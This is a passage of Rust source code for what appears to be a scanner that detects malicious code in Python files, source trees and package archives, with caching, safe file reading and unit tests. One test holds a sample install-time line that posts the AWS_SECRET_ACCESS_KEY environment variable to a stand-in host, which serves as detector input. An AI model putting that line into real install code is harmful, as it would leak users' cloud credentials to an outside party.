//! The on-demand mode (`WHERE path = ...`): one file, a source tree, or an
//! sdist/wheel archive, scanned through the [`Host`] with per-file caching.

use std::hash::{BuildHasher, RandomState};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use crate::cache::{Cache, FileKey};
use crate::host::Host;
use crate::persist::{Ident, PersistentCache};

use super::archive::{self, looks_like_archive, Limits};
use super::manifest::{self, Manifest};
use super::pth::{self, Owner};
use super::scan::{scan_source, FileScan, MAX_SCAN_BYTES};
use super::{sha256_hex, Finding, Located, Role, RuleSet};

/// Most files looked at in one source tree.
pub const MAX_TREE_FILES: usize = 100_000;
/// Deepest directory level walked in a source tree.
pub const MAX_TREE_DEPTH: usize = 32;

/// Directories never worth walking in a source tree.
const SKIP_DIRS: &[&str] = &[
    ".git",
    ".hg",
    ".svn",
    "node_modules",
    "__pycache__",
    ".tox",
    ".nox",
    ".mypy_cache",
];

/// A scanned file: its digest and findings.
#[derive(Debug, Clone, Default)]
pub struct ScannedFile {
    /// SHA-256 of the bytes scanned (absent when the file was not read).
    pub sha256: Option<String>,
    /// Findings and scan flags.
    pub scan: FileScan,
}

/// A cached file scan: most files have no finding, and then their digest
/// and flags are all there is to keep (34 bytes instead of a heap string
/// and a shared allocation).
#[derive(Debug, Clone)]
enum Cached {
    Clean {
        sha256: Option<[u8; 32]>,
        binary: bool,
        truncated: bool,
    },
    Full(Arc<ScannedFile>),
}

impl Cached {
    /// The cached form of `f`, whose digest is `digest` (raw, as hashed):
    /// compact when the scan found nothing (its flags and digest are then
    /// all there is), whole otherwise.
    fn with_digest(f: &Arc<ScannedFile>, digest: Option<[u8; 32]>) -> Cached {
        let clean = f.scan.findings.is_empty() && digest.is_some() == f.sha256.is_some();
        if clean {
            Cached::Clean {
                sha256: digest,
                binary: f.scan.binary,
                truncated: f.scan.truncated,
            }
        } else {
            Cached::Full(f.clone())
        }
    }

    fn get(&self) -> Arc<ScannedFile> {
        match self {
            Cached::Full(f) => f.clone(),
            Cached::Clean {
                sha256,
                binary,
                truncated,
            } => Arc::new(ScannedFile {
                sha256: sha256.map(|d| crate::hex::encode(&d)),
                scan: FileScan {
                    binary: *binary,
                    truncated: *truncated,
                    ..FileScan::default()
                },
            }),
        }
    }
}

/// A cached directory listing: the entries' names, NUL-separated (no file
/// name holds a NUL), and their types; the full paths are made again from
/// the directory's path when it is listed, not kept.
#[derive(Debug)]
pub struct Listing {
    names: Box<[u8]>,
    types: Box<[std::fs::FileType]>,
}

impl Listing {
    fn new(entries: &[crate::host::DirEntry]) -> Listing {
        use std::os::unix::ffi::OsStrExt;
        let mut names = Vec::with_capacity(entries.iter().map(|e| e.name.len() + 1).sum());
        for (i, e) in entries.iter().enumerate() {
            if i > 0 {
                names.push(0);
            }
            names.extend_from_slice(e.name.as_bytes());
        }
        Listing {
            names: names.into_boxed_slice(),
            types: entries.iter().map(|e| e.file_type).collect(),
        }
    }

    /// The entries again, below `dir` (as [`Host::read_dir`] names them).
    fn entries(&self, dir: &Path) -> Vec<crate::host::DirEntry> {
        use std::os::unix::ffi::OsStrExt;
        if self.types.is_empty() {
            return Vec::new();
        }
        let base = Host::normalize(dir);
        self.names
            .split(|b| *b == 0)
            .zip(self.types.iter())
            .map(|(name, file_type)| {
                let name = std::ffi::OsStr::from_bytes(name);
                crate::host::DirEntry {
                    path: base.join(name),
                    name: name.to_os_string(),
                    file_type: *file_type,
                }
            })
            .collect()
    }
}

/// A scanning problem tied to a file (becomes a row with `status` set).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanProblem {
    /// Host path.
    pub path: PathBuf,
    /// Member inside an archive or tree, if any.
    pub member: String,
    /// What went wrong.
    pub message: String,
}

/// Findings and problems of one scan.
#[derive(Debug, Clone, Default)]
pub struct TargetScan {
    /// Hits, file by file.
    pub findings: Vec<Located>,
    /// Files or archives that could not be read.
    pub problems: Vec<ScanProblem>,
}

/// The rules plus caches keyed by file version, shared by every query of a
/// process so that a repeated scheduled query re-reads nothing unchanged.
#[derive(Debug)]
pub struct Scanner {
    /// The compiled rules (compiled on first use, not when a table is
    /// registered: a process that never scans never pays for them).
    pub rules: &'static Rules,
    /// Archive limits.
    pub limits: Limits,
    /// Most threads scanning site directories at once in the whole-host
    /// scan ([`super::site::scan_environments`]); 1 scans them in turn.
    pub threads: usize,
    /// File scans without a persistent cache, by a keyed 128-bit hash of
    /// (file version, role), compact when the file had no finding.
    files: Cache<u128, Cached, crate::cache::PreHashed>,
    /// Paths scanned, when asked for (see [`Scanner::recording_paths`]).
    paths: Option<std::sync::Mutex<Vec<PathBuf>>>,
    archives: Cache<FileKey, Arc<archive::ArchiveScan>>,
    /// Per-site indexes of distributions (see [`super::site`]).
    pub(crate) sites: Cache<PathBuf, Arc<super::site::SiteIndex>>,
    /// Directory listings keyed by the directory's version (its mtime
    /// changes whenever an entry is added, removed or renamed), as a keyed
    /// 128-bit hash of its [`FileKey`], and kept compact (names only, see
    /// [`Listing`]): a host's listings are most of what a scan keeps.
    listings: Cache<u128, Arc<Listing>, crate::cache::PreHashed>,
    /// The two keys of the listings' 128-bit hashes (drawn per process, so
    /// no one can aim a collision at them).
    keys: (RandomState, RandomState),
    /// Directories already resolved inside the root during the current
    /// query (see [`Scanner::begin_query`]).
    dirs: std::sync::Mutex<std::collections::HashMap<PathBuf, PathBuf>>,
    /// Scans kept between processes (see [`crate::persist`]).
    persist: Option<Arc<PersistentCache>>,
    /// Parsed distributions shared with the other tables (see
    /// [`Scanner::with_distribution_cache`]).
    dists: Option<Arc<crate::python::DistributionCache>>,
}

/// Most threads a whole-host scan uses by default: few, since the scan
/// shares the host with its work (and osquery's watchdog counts the CPU).
pub const MAX_SCAN_THREADS: usize = 4;

/// The default number of scanning threads: the CPUs this process may run
/// on, at most [`MAX_SCAN_THREADS`].
fn default_threads() -> usize {
    std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .min(MAX_SCAN_THREADS)
}

/// A scanner's rules: given ones, or the built-in ones compiled on first
/// use (not when a table is registered: a process that never scans never
/// pays for them). Derefs to the [`RuleSet`].
#[derive(Debug)]
pub struct Rules(Option<&'static RuleSet>);

impl std::ops::Deref for Rules {
    type Target = RuleSet;
    fn deref(&self) -> &RuleSet {
        self.0.unwrap_or_else(RuleSet::builtin)
    }
}

impl Rules {
    /// Whether these are the built-in rules (what the persistent cache's
    /// site memos were made with).
    pub fn is_builtin(&self) -> bool {
        self.0.is_none_or(|r| std::ptr::eq(r, RuleSet::builtin()))
    }
}

/// The built-in rules ([`RuleSet::builtin`]), compiled on first use.
pub static BUILTIN_RULES: Rules = Rules(None);

impl Default for Scanner {
    fn default() -> Self {
        Scanner::with_rules(&BUILTIN_RULES)
    }
}

impl Scanner {
    /// A scanner with these rules and empty caches.
    pub fn new(rules: &'static RuleSet) -> Self {
        // One small allocation kept for the process: scanners with rules of
        // their own are made once (benches, tests).
        Scanner::with_rules(Box::leak(Box::new(Rules(Some(rules)))))
    }

    fn with_rules(rules: &'static Rules) -> Self {
        Scanner {
            rules,
            limits: Limits::default(),
            threads: default_threads(),
            files: Cache::new(200_000),
            paths: None,
            archives: Cache::new(10_000),
            sites: Cache::new(10_000),
            listings: Cache::new(200_000),
            keys: (RandomState::new(), RandomState::new()),
            dirs: std::sync::Mutex::new(std::collections::HashMap::new()),
            persist: None,
            dists: None,
        }
    }

    /// Scans at most `threads` site directories at once (at least 1).
    pub fn with_threads(mut self, threads: usize) -> Self {
        self.threads = threads.max(1);
        self
    }

    /// Reads site directories' distributions through `cache`, shared with
    /// the tables that list them, so the site index holds the cache's
    /// copies rather than parsing and keeping its own.
    pub fn with_distribution_cache(
        mut self,
        cache: Option<Arc<crate::python::DistributionCache>>,
    ) -> Self {
        self.dists = cache;
        self
    }

    /// The distribution cache shared with other tables, if any.
    pub(crate) fn distribution_cache(&self) -> Option<&Arc<crate::python::DistributionCache>> {
        self.dists.as_ref()
    }

    /// Also keeps file scans in `cache`, between processes.
    pub fn with_persistent_cache(mut self, cache: Option<Arc<PersistentCache>>) -> Self {
        self.persist = cache;
        self
    }

    /// The persistent cache this scanner keeps scans in, if any.
    pub(crate) fn persistent_cache(&self) -> Option<&Arc<PersistentCache>> {
        self.persist.as_ref()
    }

    /// A directory's entries, cached by the directory's version.
    pub fn list_dir(
        &self,
        host: &Host,
        dir: &Path,
    ) -> Result<Arc<Vec<crate::host::DirEntry>>, crate::host::HostError> {
        let md = self.stat(host, dir)?;
        let key = self.hash128(&FileKey::new(dir, &md));
        if let Some(hit) = self.listings.get(&key) {
            return Ok(Arc::new(hit.entries(dir)));
        }
        // The parent was resolved (once per query) by `stat` above: list the
        // child directly rather than re-walking its whole path.
        let entries = match dir.parent() {
            Some(parent) if dir.file_name().is_some() => {
                let resolved = self.resolve_dir(host, parent, 0)?;
                host.read_child_dir(dir, &resolved)?
            }
            _ => host.read_dir(dir)?,
        };
        self.listings.insert(key, Arc::new(Listing::new(&entries)));
        Ok(Arc::new(entries))
    }

    /// Forgets the directory resolutions of the previous query. Call at the
    /// start of every query: within one query a directory is resolved (every
    /// component checked for symlinks inside the root) once, not once per
    /// file, which is what makes a repeated query over an unchanged host
    /// cost little more than one `lstat` per file.
    pub fn begin_query(&self) {
        self.end_query();
    }

    /// Drops the query's working set (the directory resolutions), so that
    /// what a long-lived process keeps between queries is its caches only.
    /// Call when a query's rows are made.
    pub fn end_query(&self) {
        if let Ok(mut d) = self.dirs.lock() {
            *d = std::collections::HashMap::new();
        }
    }

    /// Resolves a directory inside the root, reusing the resolution of its
    /// parent from this query: one `lstat` per new directory instead of one
    /// per path component. Anything unusual (a symlink, a missing
    /// component) takes [`Host::resolve`]'s fully checked way.
    fn resolve_dir(
        &self,
        host: &Host,
        dir: &Path,
        depth: usize,
    ) -> Result<PathBuf, crate::host::HostError> {
        if let Some(hit) = self.dirs.lock().ok().and_then(|d| d.get(dir).cloned()) {
            return Ok(hit);
        }
        let resolved = match (dir.parent(), dir.file_name()) {
            (Some(parent), Some(name)) if depth < 64 => {
                let p = self.resolve_dir(host, parent, depth + 1)?;
                let candidate = p.join(name);
                match host.child_symlink_metadata(&p, name) {
                    Ok(md) if md.is_dir() => candidate,
                    _ => host.resolve(dir)?,
                }
            }
            _ => host.resolve(dir)?,
        };
        if let Ok(mut d) = self.dirs.lock() {
            if d.len() > 100_000 {
                d.clear();
            }
            d.insert(dir.to_path_buf(), resolved.clone());
        }
        Ok(resolved)
    }

    /// `stat` of a host file for the cache key: the parent directory is
    /// resolved inside the root once per query, then the file itself is
    /// `lstat`ed; a file that is itself a symlink goes the slow, fully
    /// checked way ([`Host::metadata`]).
    pub fn stat(
        &self,
        host: &Host,
        path: &Path,
    ) -> Result<std::fs::Metadata, crate::host::HostError> {
        let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
            return host.metadata(path);
        };
        let resolved = self.resolve_dir(host, parent, 0)?;
        // The parent is resolved inside the root, so this lstat cannot leave
        // it; it follows nothing.
        match host.child_symlink_metadata(&resolved, name) {
            Ok(md) if !md.file_type().is_symlink() => Ok(md),
            _ => host.metadata(path),
        }
    }

    /// Reads at most [`MAX_SCAN_BYTES`] of `path`, which [`Scanner::stat`]
    /// just gave `md` for: opened below its parent as resolved this query
    /// (no walk of the whole path again), a symlink the fully checked way.
    fn read_prefix(
        &self,
        host: &Host,
        path: &Path,
        md: &std::fs::Metadata,
    ) -> Result<(Vec<u8>, bool), crate::host::HostError> {
        use std::io::Read;
        let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
            return host.read_prefix(path, MAX_SCAN_BYTES as u64);
        };
        if md.file_type().is_symlink() || !md.is_file() {
            return host.read_prefix(path, MAX_SCAN_BYTES as u64);
        }
        let resolved = self.resolve_dir(host, parent, 0)?;
        let (file, md) = host.open_child_known(&resolved, name, Some(md))?;
        let cap = MAX_SCAN_BYTES as u64;
        let mut buf = Vec::with_capacity(md.len().min(cap) as usize);
        file.take(cap)
            .read_to_end(&mut buf)
            .map_err(|source| crate::host::HostError::Io {
                path: path.to_path_buf(),
                source,
            })?;
        Ok((buf, md.len() > cap))
    }

    /// Also remembers the path of every file scanned, for
    /// [`Scanner::scanned_paths`] (benchmarks; the caches keep no paths).
    pub fn recording_paths(mut self) -> Self {
        self.paths = Some(std::sync::Mutex::new(Vec::new()));
        self
    }

    /// The host paths of every file scanned since [`Scanner::recording_paths`]
    /// (for benchmarks: the file list a peer scans for comparison), sorted.
    pub fn scanned_paths(&self) -> Vec<PathBuf> {
        let mut v: Vec<PathBuf> = self
            .paths
            .as_ref()
            .and_then(|p| p.lock().ok().map(|p| p.clone()))
            .unwrap_or_default();
        v.sort();
        v.dedup();
        v
    }

    /// A keyed 128-bit hash (keys drawn per process).
    fn hash128(&self, x: &impl std::hash::Hash) -> u128 {
        (u128::from(self.keys.0.hash_one(x)) << 64) | u128::from(self.keys.1.hash_one(x))
    }

    /// The key of a file scan: a keyed hash of the file's version (what a
    /// [`FileKey`] holds, in its field order) and the role, with no copy of
    /// the path. The path goes in as its bytes: `Path`'s own `Hash` walks
    /// its components, which cost more than the rest of the key.
    fn file_hash(&self, path: &Path, md: &std::fs::Metadata, role: Role) -> u128 {
        use std::os::unix::ffi::OsStrExt;
        use std::os::unix::fs::MetadataExt;
        let v = (
            path.as_os_str().as_bytes(),
            md.dev(),
            md.ino(),
            md.size(),
            md.mtime() as i128 * 1_000_000_000 + md.mtime_nsec() as i128,
            md.ctime() as i128 * 1_000_000_000 + md.ctime_nsec() as i128,
            role,
        );
        self.hash128(&v)
    }

    /// Number of cached file scans (for tests and benchmarks).
    pub fn cached_files(&self) -> usize {
        self.files.len()
    }

    /// Scans one host file as code of `role` (`.pth` handling is the
    /// caller's: see [`Scanner::scan_pth_file`]). Cached by file version.
    pub fn scan_file(
        &self,
        host: &Host,
        path: &Path,
        role: Role,
    ) -> Result<Arc<ScannedFile>, crate::host::HostError> {
        let md = self.stat(host, path)?;
        let (ident, key) = match self.cached_scan(path, &md, role) {
            Ok(hit) => return Ok(hit),
            Err(miss) => miss,
        };
        let read = self.read_prefix(host, path, &md)?;
        Ok(self.scan_and_keep(read, path, role, ident, key))
    }

    /// The kept scan of `path` at the version `md` describes, if any (the
    /// path is recorded for [`Scanner::scanned_paths`] either way); on a
    /// miss, the file's identity and in-process key for
    /// [`Scanner::scan_and_keep`].
    fn cached_scan(
        &self,
        path: &Path,
        md: &std::fs::Metadata,
        role: Role,
    ) -> Result<Arc<ScannedFile>, (Ident, u128)> {
        if let Some(p) = &self.paths {
            if let Ok(mut p) = p.lock() {
                p.push(path.to_path_buf());
            }
        }
        let key = self.file_hash(path, md, role);
        if let Some(hit) = self.files.get(&key) {
            return Ok(hit.get());
        }
        let ident = Ident::from_metadata(md);
        // With a persistent cache, that is the one cache: it holds every
        // scan this process makes, so an in-process copy would only double
        // the memory.
        match self
            .persist
            .as_ref()
            .and_then(|p| p.scan(path, role, ident))
        {
            Some(hit) => Ok(hit),
            None => Err((ident, key)),
        }
    }

    /// Scans bytes read from `path` (and whether they were cut short), then
    /// keeps the result: in the persistent cache when there is one, in the
    /// in-process cache otherwise.
    fn scan_and_keep(
        &self,
        (bytes, truncated): (Vec<u8>, bool),
        path: &Path,
        role: Role,
        ident: Ident,
        key: u128,
    ) -> Arc<ScannedFile> {
        let mut scan = scan_source(self.rules, &bytes, role);
        scan.truncated |= truncated;
        let digest = (!scan.binary).then(|| super::sha256(&bytes));
        let sha256 = digest.as_ref().map(|d| crate::hex::encode(d));
        let out = Arc::new(ScannedFile { sha256, scan });
        match &self.persist {
            Some(p) => p.put_scan(path, role, ident, out.clone()),
            None => self.files.insert(key, Cached::with_digest(&out, digest)),
        }
        out
    }

    /// [`Scanner::scan_file`] for `rel`, a file below the open directory
    /// `dir` (`path` is `dir`'s path joined with `rel`) that a listing has
    /// just shown to be a regular file: opened relative to `dir` and
    /// `fstat`ed (the cache key comes from the open file), so one `openat2`
    /// and one `fstat` replace two `lstat`s of the whole path and an open
    /// of it. A symlink on the way, or anything not a regular file by now,
    /// takes [`Scanner::scan_file`]'s way.
    pub fn scan_file_at(
        &self,
        host: &Host,
        dir: &crate::host::HostDir,
        rel: &Path,
        path: &Path,
        role: Role,
    ) -> Result<Arc<ScannedFile>, crate::host::HostError> {
        let Some((file, md)) = dir.open_regular_beneath(rel)? else {
            return self.scan_file(host, path, role);
        };
        let (ident, key) = match self.cached_scan(path, &md, role) {
            Ok(hit) => return Ok(hit),
            Err(miss) => miss,
        };
        let read = read_known(file, &md, path)?;
        Ok(self.scan_and_keep(read, path, role, ident, key))
    }

    /// Scans a site-level `.pth` (not cached: they are few and small).
    pub fn scan_pth_file(
        &self,
        host: &Host,
        path: &Path,
        owner: Owner<'_>,
    ) -> Result<ScannedFile, crate::host::HostError> {
        let (bytes, truncated) = host.read_prefix(path, MAX_SCAN_BYTES as u64)?;
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let findings = pth::scan_pth(self.rules, &name, &bytes, owner);
        Ok(ScannedFile {
            sha256: Some(sha256_hex(&bytes)),
            scan: FileScan {
                findings,
                binary: false,
                truncated,
            },
        })
    }

    /// Scans an archive on the host (cached by file version).
    pub fn scan_archive_file(
        &self,
        host: &Host,
        path: &Path,
    ) -> Result<Arc<archive::ArchiveScan>, crate::host::HostError> {
        let md = host.metadata(path)?;
        let key = FileKey::new(path, &md);
        if let Some(hit) = self.archives.get(&key) {
            return Ok(hit);
        }
        // Streamed from the open file: memory is bounded by the per-member
        // cap whatever the archive's size.
        let (file, fmd) = host.open_file(path)?;
        if fmd.len() > self.limits.max_archive_bytes {
            return Err(crate::host::HostError::TooLarge {
                path: path.to_path_buf(),
                size: fmd.len(),
                cap: self.limits.max_archive_bytes,
            });
        }
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let out = Arc::new(archive::scan_archive_reader(
            self.rules,
            &name,
            file,
            &self.limits,
        ));
        self.archives.insert(key, out.clone());
        Ok(out)
    }

    /// The on-demand mode: scans whatever `path` is (a file, a source tree,
    /// an sdist or wheel) and reports every hit under that same `path`.
    pub fn scan_target(&self, host: &Host, path: &Path) -> TargetScan {
        let mut out = TargetScan::default();
        let md = match host.metadata(path) {
            Ok(md) => md,
            Err(e) => {
                out.problems.push(ScanProblem {
                    path: path.to_path_buf(),
                    member: String::new(),
                    message: e.to_string(),
                });
                return out;
            }
        };
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if md.is_dir() {
            self.scan_tree(host, path, &mut out);
        } else if looks_like_archive(&name) || sniff_host(host, path) {
            match self.scan_archive_file(host, path) {
                Ok(scan) => {
                    for f in &scan.findings {
                        out.findings.push(Located {
                            path: path.to_path_buf(),
                            member: f.member.clone(),
                            environment: None,
                            package: scan.package.clone(),
                            file_sha256: f.sha256.clone(),
                            finding: f.finding.clone(),
                        });
                    }
                }
                Err(e) => out.problems.push(ScanProblem {
                    path: path.to_path_buf(),
                    member: String::new(),
                    message: e.to_string(),
                }),
            }
        } else {
            let role = Role::for_relative_path(&name);
            let scanned = if name.ends_with(".pth") {
                self.scan_pth_file(host, path, Owner::Unknown).map(Arc::new)
            } else {
                self.scan_file(host, path, role)
            };
            match scanned {
                Ok(s) => push_all(&mut out, path, "", &s.sha256, &s.scan.findings),
                Err(e) => out.problems.push(ScanProblem {
                    path: path.to_path_buf(),
                    member: String::new(),
                    message: e.to_string(),
                }),
            }
            if let (Some(m), Some(dir)) = (Manifest::at(&name), path.parent()) {
                let ctx = TreeManifests::read(host, dir);
                ctx.scan(self, host, dir, path, m, "", &mut out);
            }
        }
        out
    }

    fn scan_tree(&self, host: &Host, root: &Path, out: &mut TargetScan) {
        let manifests = TreeManifests::read(host, root);
        let mut stack: Vec<(PathBuf, usize)> = vec![(root.to_path_buf(), 0)];
        let mut files = 0usize;
        while let Some((dir, depth)) = stack.pop() {
            let entries = match self.list_dir(host, &dir) {
                Ok(e) => e,
                Err(e) => {
                    log::warn!("{e}: not scanned");
                    out.problems.push(ScanProblem {
                        path: root.to_path_buf(),
                        member: relative(root, &dir),
                        message: e.to_string(),
                    });
                    continue;
                }
            };
            for entry in entries.iter().cloned() {
                let name = entry.name_lossy();
                if entry.file_type.is_dir() {
                    if SKIP_DIRS.contains(&name.as_str()) {
                        continue;
                    }
                    if depth >= MAX_TREE_DEPTH {
                        let msg = format!(
                            "too_deep: directory nested more than {MAX_TREE_DEPTH} levels deep; not scanned"
                        );
                        log::warn!("{}: {msg}", entry.path.display());
                        out.problems.push(ScanProblem {
                            path: root.to_path_buf(),
                            member: relative(root, &entry.path),
                            message: msg,
                        });
                        continue;
                    }
                    stack.push((entry.path, depth + 1));
                    continue;
                }
                if !entry.file_type.is_file() {
                    continue; // symlinks are not followed, devices never read
                }
                let rel = relative(root, &entry.path);
                if let Some(m) = Manifest::at(&rel) {
                    manifests.scan(self, host, root, &entry.path, m, &rel, out);
                }
                let Some(mut role) = tree_role(&rel) else {
                    continue;
                };
                // A module a setup.cfg `cmdclass` names runs at build/install.
                if manifests.install_modules.contains(&rel) {
                    role = Role::Install;
                }
                files += 1;
                if files > MAX_TREE_FILES {
                    out.problems.push(ScanProblem {
                        path: root.to_path_buf(),
                        member: String::new(),
                        message: format!(
                            "more than {MAX_TREE_FILES} files; the rest was not scanned"
                        ),
                    });
                    return;
                }
                let scanned = if role == Role::Startup && name.ends_with(".pth") {
                    self.scan_pth_file(host, &entry.path, Owner::Unknown)
                        .map(Arc::new)
                } else {
                    self.scan_file(host, &entry.path, role)
                };
                match scanned {
                    Ok(s) => push_all(out, root, &rel, &s.sha256, &s.scan.findings),
                    Err(e) => out.problems.push(ScanProblem {
                        path: root.to_path_buf(),
                        member: rel,
                        message: e.to_string(),
                    }),
                }
            }
        }
    }
}

/// Reads at most [`MAX_SCAN_BYTES`] of an open regular file whose `fstat`
/// gave `md`: exactly that many bytes (no extra read to find the end; a
/// file that grows meanwhile is cut at its size then, one that shrinks ends
/// early), or to the end when `fstat` says 0 bytes. The flag: it was longer.
fn read_known(
    file: std::fs::File,
    md: &std::fs::Metadata,
    path: &Path,
) -> Result<(Vec<u8>, bool), crate::host::HostError> {
    use std::io::Read;
    let cap = MAX_SCAN_BYTES as u64;
    let io = |source| crate::host::HostError::Io {
        path: path.to_path_buf(),
        source,
    };
    if md.len() == 0 {
        let mut buf = Vec::new();
        file.take(cap).read_to_end(&mut buf).map_err(io)?;
        return Ok((buf, false));
    }
    crate::host::read_known_size(file, md, cap).map_err(io)
}

/// What a source tree's top-level manifests say before its files are
/// walked: who it claims to be (the owner allowed to install a trusted
/// command) and which modules `setup.cfg`'s `cmdclass` runs at build time.
struct TreeManifests {
    owner: Option<String>,
    install_modules: std::collections::HashSet<String>,
}

impl TreeManifests {
    fn read(host: &Host, root: &Path) -> TreeManifests {
        let text = |name: &str| {
            host.read_prefix(&root.join(name), MANIFEST_CAP)
                .ok()
                .map(|(b, _)| String::from_utf8_lossy(&b).into_owned())
        };
        let mut owner = None;
        let mut install_modules = std::collections::HashSet::new();
        for (name, m) in [
            ("pyproject.toml", Manifest::Pyproject),
            ("setup.cfg", Manifest::SetupCfg),
            ("setup.py", Manifest::SetupPy),
        ] {
            let Some(t) = text(name) else { continue };
            if owner.is_none() {
                owner = manifest::declared_name(m, &t);
            }
            if m == Manifest::SetupCfg {
                for hook in manifest::setup_cfg_cmdclass(&t) {
                    install_modules.extend(hook.module_paths());
                }
            }
        }
        TreeManifests {
            owner,
            install_modules,
        }
    }

    /// Shadowing console scripts (and `cmdclass` hooks) of one manifest file
    /// of the tree at `root`, reported under `member` of `root`'s scan.
    #[allow(clippy::too_many_arguments)]
    fn scan(
        &self,
        scanner: &Scanner,
        host: &Host,
        root: &Path,
        path: &Path,
        m: Manifest,
        member: &str,
        out: &mut TargetScan,
    ) {
        let report = if member.is_empty() { path } else { root };
        let bytes = match host.read_prefix(path, MANIFEST_CAP) {
            Ok((b, _)) => b,
            Err(e) => {
                return out.problems.push(ScanProblem {
                    path: report.to_path_buf(),
                    member: member.to_string(),
                    message: e.to_string(),
                })
            }
        };
        let text = String::from_utf8_lossy(&bytes);
        let owner = match m {
            // A dist-info's owner is the distribution its directory names.
            Manifest::EntryPointsTxt => path
                .parent()
                .and_then(|p| p.file_name())
                .and_then(|n| n.to_str())
                .and_then(manifest::metadata_dir_owner),
            _ => self.owner.clone(),
        };
        let mut findings = manifest::shadowing_findings(
            scanner.rules,
            &m.scripts(&text),
            owner.as_deref(),
            m.role(),
        );
        if m == Manifest::SetupCfg {
            let hooks = manifest::setup_cfg_cmdclass(&text);
            findings.extend(manifest::cmdclass_findings(&hooks, |p| {
                host.metadata(&root.join(p)).is_ok_and(|md| md.is_file())
            }));
        }
        push_all(out, report, member, &Some(sha256_hex(&bytes)), &findings);
    }
}

/// Largest manifest file read.
const MANIFEST_CAP: u64 = 1024 * 1024;

/// The role of a file in a source tree, or `None` when it holds no code
/// that runs. A `.pth` counts as start-up code only at the top of the tree
/// (a site directory given as the path).
fn tree_role(rel: &str) -> Option<Role> {
    let lower = rel.to_ascii_lowercase();
    if lower.ends_with(".pth") {
        return Some(if rel.contains('/') {
            Role::Peripheral
        } else {
            Role::Startup
        });
    }
    let code = lower.ends_with(".py") || lower.ends_with(".pyw");
    let config = lower.ends_with("pyproject.toml") || lower.ends_with("setup.cfg");
    (code || config).then(|| Role::for_relative_path(rel))
}

fn sniff_host(host: &Host, path: &Path) -> bool {
    host.read_prefix(path, 512)
        .map(|(b, _)| archive::sniff(&b).is_some())
        .unwrap_or(false)
}

fn relative(root: &Path, p: &Path) -> String {
    p.strip_prefix(root)
        .map(|r| r.to_string_lossy().into_owned())
        .unwrap_or_else(|_| p.to_string_lossy().into_owned())
}

fn push_all(
    out: &mut TargetScan,
    path: &Path,
    member: &str,
    sha: &Option<String>,
    findings: &[Finding],
) {
    for f in findings {
        out.findings.push(Located {
            path: path.to_path_buf(),
            member: member.to_string(),
            environment: None,
            package: None,
            file_sha256: sha.clone(),
            finding: f.clone(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_clean_scan_is_kept_compact_and_comes_back_the_same() {
        let clean = Arc::new(ScannedFile {
            sha256: Some(sha256_hex(b"print(1)\n")),
            scan: FileScan {
                truncated: true,
                ..FileScan::default()
            },
        });
        let c = Cached::with_digest(&clean, Some(super::super::sha256(b"print(1)\n")));
        assert!(matches!(c, Cached::Clean { .. }));
        assert_eq!(c.get().sha256, clean.sha256);
        assert_eq!(c.get().scan, clean.scan);
        let binary = Arc::new(ScannedFile {
            sha256: None,
            scan: FileScan {
                binary: true,
                ..FileScan::default()
            },
        });
        assert!(matches!(
            Cached::with_digest(&binary, None),
            Cached::Clean { .. }
        ));
        assert_eq!(Cached::with_digest(&binary, None).get().scan, binary.scan);
        assert_eq!(Cached::with_digest(&binary, None).get().sha256, None);
    }

    #[test]
    fn a_scan_with_findings_or_a_digest_it_lacks_is_kept_whole() {
        let rules = RuleSet::builtin();
        let scan = scan_source(
            rules,
            b"import os, requests\nrequests.post('https://x.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
            Role::Install,
        );
        assert!(!scan.findings.is_empty());
        let hit = Arc::new(ScannedFile {
            sha256: Some("ab".repeat(32)),
            scan,
        });
        let kept = Cached::with_digest(&hit, Some([0xab; 32]));
        assert!(matches!(kept, Cached::Full(_)));
        assert_eq!(kept.get().scan, hit.scan);
        // A digest the scan does not carry is not made up.
        let odd = Arc::new(ScannedFile {
            sha256: None,
            scan: FileScan::default(),
        });
        assert_eq!(Cached::with_digest(&odd, Some([1; 32])).get().sha256, None);
    }

    #[test]
    fn a_cached_listing_gives_the_same_entries() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("pkg")).unwrap();
        std::fs::write(dir.path().join("a.py"), b"").unwrap();
        std::fs::write(dir.path().join("b.pth"), b"").unwrap();
        std::os::unix::fs::symlink("a.py", dir.path().join("link")).unwrap();
        let host = Host::new(dir.path());
        let scanner = Scanner::default();
        let first = scanner.list_dir(&host, Path::new("/")).unwrap();
        let again = scanner.list_dir(&host, Path::new("/")).unwrap();
        assert_eq!(first.len(), 4);
        let view = |v: &[crate::host::DirEntry]| -> Vec<(PathBuf, std::ffi::OsString, bool, bool)> {
            v.iter()
                .map(|e| {
                    (
                        e.path.clone(),
                        e.name.clone(),
                        e.file_type.is_dir(),
                        e.file_type.is_symlink(),
                    )
                })
                .collect()
        };
        assert_eq!(view(&first), view(&again));
        assert!(again
            .iter()
            .any(|e| e.path == Path::new("/pkg") && e.file_type.is_dir()));
        // An entry added changes the directory's version: listed anew.
        std::fs::write(dir.path().join("c.py"), b"").unwrap();
        assert_eq!(scanner.list_dir(&host, Path::new("/")).unwrap().len(), 5);
        let empty = tempfile::tempdir().unwrap();
        let host = Host::new(empty.path());
        assert!(scanner.list_dir(&host, Path::new("/")).unwrap().is_empty());
        assert!(scanner.list_dir(&host, Path::new("/")).unwrap().is_empty());
    }

    #[test]
    fn recorded_paths_are_what_was_scanned() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a.py"), b"x = 1\n").unwrap();
        let host = Host::new(dir.path());
        let plain = Scanner::default();
        plain
            .scan_file(&host, Path::new("/a.py"), Role::Module)
            .unwrap();
        assert!(plain.scanned_paths().is_empty());
        assert_eq!(plain.cached_files(), 1);
        let rec = Scanner::default().recording_paths();
        rec.scan_file(&host, Path::new("/a.py"), Role::Module)
            .unwrap();
        rec.scan_file(&host, Path::new("/a.py"), Role::Module)
            .unwrap();
